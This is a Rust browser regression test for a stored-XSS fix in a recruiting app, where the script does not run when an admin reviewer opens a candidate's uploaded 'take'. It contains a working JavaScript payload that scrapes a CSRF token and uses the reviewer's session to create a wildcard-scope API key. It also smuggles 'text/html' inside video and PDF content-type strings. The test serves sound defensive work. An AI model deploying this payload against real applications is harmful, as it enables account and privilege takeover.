//! The stored XSS of the penetration test in a real browser (Debian's Chromium through
//! tests/browser/upload_xss.mjs): a candidate's take whose bytes are a page with script, stored
//! with the report's type strings (as rows from before the fix are), is opened by a signed-in
//! reviewer with admin rights on every route that reaches it: the member route, the API route,
//! the interview URL, share links (anonymised too), and the pages that play it. The script
//! would mark the page, call a listener of this test and create an API key with the
//! reviewer's session; none of that may happen.
//!
//! Needs chromium, node and tests/browser/node_modules (scripts/install-test-deps); skipped
//! with a message without them, unless CI is set.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod api_common;
mod browser_support;
mod common;
mod review_support;

use api_common::PASSWORD;
use browser_support::{NODE_TIMEOUT, browser_lock, browser_ready, workspace};
use common::TestApp;
use reqwest::StatusCode;
use review_support::{fixture, member};
use serde_json::{Value, json};
use shortlist_domain::Role;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// The candidate's page: marks the document, calls home, and tries to make an API key with
/// the session of whoever opens it. `key` off for the control, which must not make one.
fn payload(port: u16, key: bool) -> String {
    let steal = if key {
        "fetch('/settings/api-keys').then((r) => r.text()).then((html) => {
           const csrf = html.match(/name=\"csrf\" value=\"([^\"]+)\"/)[1];
           const body = new URLSearchParams({ csrf, name: 'pwned', scopes: '*', kind: 'organisation', expires_on: '' });
           return fetch('/settings/api-keys', { method: 'POST', body });
         }).then(() => { new Image().src = home + '/key'; }).catch((e) => { new Image().src = home + '/failed'; });"
    } else {
        ""
    };
    format!(
        "<!doctype html><html><head><title>take</title></head><body><p>take</p><script>
         const home = 'http://127.0.0.1:{port}';
         document.title = 'PWNED';
         new Image().src = home + '/ran' + location.pathname;
         {steal}
         </script></body></html>"
    )
}

/// Stores `html` as the take of `question` with the client's type string, as before the fix.
async fn plant(app: &TestApp, inv: &str, question: &str, content_type: &str, html: &str) {
    let sql = "UPDATE answer_takes SET content_type = $1 WHERE invitation_id = $2 AND question_id = $3 \
               RETURNING media_key";
    let key: String = shortlist_store::on_db!(&app.app.db, p => sqlx::query_scalar(sql)
        .bind(content_type).bind(inv).bind(question).fetch_one(p).await)
    .unwrap();
    app.app.media.put(&key, html.as_bytes().to_vec()).await.unwrap();
}

async fn api_keys(app: &TestApp, org: &str) -> i64 {
    let sql = "SELECT COUNT(*) FROM api_keys WHERE org_id = $1";
    shortlist_store::on_db!(&app.app.db, p => sqlx::query_scalar(sql).bind(org).fetch_one(p).await).unwrap()
}

/// Answers every request with 204 and notes its request line.
async fn listener() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(Mutex::new(vec![]));
    let seen = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let seen = seen.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 4096];
                let n = s.read(&mut buf).await.unwrap_or(0);
                let text = String::from_utf8_lossy(&buf[..n]).to_string();
                if let Some(line) = text.lines().next().filter(|l| !l.is_empty()) {
                    seen.lock().unwrap().push(line.to_string());
                }
                let reply = "HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n";
                let _ = s.write_all(reply.as_bytes()).await;
            });
        }
    });
    (port, hits)
}

async fn drive(config: Value) -> Value {
    let _lock = browser_lock();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("result.json");
    let mut config = config;
    config["out"] = json!(out.display().to_string());
    let mut child = tokio::process::Command::new("node")
        .arg(workspace().join("tests/browser/upload_xss.mjs"))
        .arg(config.to_string())
        .current_dir(workspace())
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("node");
    let status = tokio::time::timeout(NODE_TIMEOUT, child.wait())
        .await
        .expect("the browser run finishes")
        .unwrap();
    let result: Value = serde_json::from_str(&std::fs::read_to_string(&out).expect("a result")).unwrap();
    assert!(
        status.success() && result["ok"] == true,
        "browser run failed: {}\n{}",
        result["error"],
        serde_json::to_string_pretty(&result).unwrap()
    );
    result
}

#[tokio::test]
async fn stored_xss_a_reviewer_opening_a_planted_take_runs_no_script() {
    if !browser_ready() {
        return;
    }
    let app = TestApp::spawn().await;
    let f = fixture(&app).await;
    let (port, hits) = listener().await;
    let html = payload(port, true);
    plant(&app, &f.inv, "q1", "video/webm;codecs=vp8,text/html", &html).await;
    plant(&app, &f.inv, "q4", "application/pdf;x=,text/html", &html).await;
    let (s, _) = f
        .api
        .put(
            "/review-settings",
            json!({ "link_access": "anyone_with_link", "hide_until_submitted": true }),
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    let links = format!("/positions/{}/share-links", f.pos);
    let (s, v) = f.api.post(&links, json!({ "invitation_ids": [f.inv] })).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let share = v["url"].as_str().unwrap().to_string();
    let (s, v) = f
        .api
        .post(&links, json!({ "invitation_ids": [f.inv], "anonymised": true }))
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let anonymised = v["url"].as_str().unwrap().to_string();
    let reviewer = member(&app, &f, Role::Admin).await;
    let keys = api_keys(&app, f.api.org.as_str()).await;

    let interview_url = app.app.recruiting.links.review_url(&f.inv);
    let member_base = format!("{}/invitations/{}", app.base, f.inv);
    let api_base = format!("{}/api/v1/invitations/{}", app.base, f.inv);
    let share_base = format!("{share}/{}", f.inv);
    let mut files = vec![];
    for base in [&member_base, &api_base, &interview_url, &share_base] {
        files.push(format!("{base}/takes/q1/1"));
        files.push(format!("{base}/takes/q4/1"));
    }
    // An anonymised link never serves the original of a video take, only an audio-only copy,
    // which the planted page cannot have: that route answers 404 (share_anonymised_audio.rs).
    let anonymised_take = format!("{anonymised}/{}/takes/q1/1", f.inv);
    let r = reqwest::get(&anonymised_take).await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    assert!(!r.text().await.unwrap().contains("PWNED"));
    let pages = [
        format!("{}/interviews/{}", app.base, f.inv),
        interview_url.clone(),
        share_base.clone(),
        format!("{anonymised}/{}", f.inv),
    ];
    let result = drive(json!({
        "base": app.base,
        "member": { "email": reviewer.email, "password": PASSWORD },
        "fileUrls": files,
        "pageUrls": pages,
        "controlPayload": payload(port, false),
    }))
    .await;
    assert_eq!(
        result["control"], true,
        "the payload runs as a page, so the check can see it"
    );

    // The control's call home arrives (it proves the listener hears the script) ...
    let heard = common::eventually(std::time::Duration::from_secs(20), || {
        let hits = hits.clone();
        async move {
            hits.lock()
                .unwrap()
                .iter()
                .any(|h| h.contains("/ran/healthz"))
                .then_some(())
        }
    })
    .await;
    assert!(
        heard.is_some(),
        "the control's script called home: {:?}",
        hits.lock().unwrap()
    );
    // ... and nothing else ever called.
    let others: Vec<String> = hits
        .lock()
        .unwrap()
        .iter()
        .filter(|h| !h.contains("/ran/healthz"))
        .cloned()
        .collect();
    assert!(others.is_empty(), "a candidate's script ran: {others:?}");
    assert_eq!(
        api_keys(&app, f.api.org.as_str()).await,
        keys,
        "no API key was made with the reviewer's session"
    );
    app.stop().await;
}
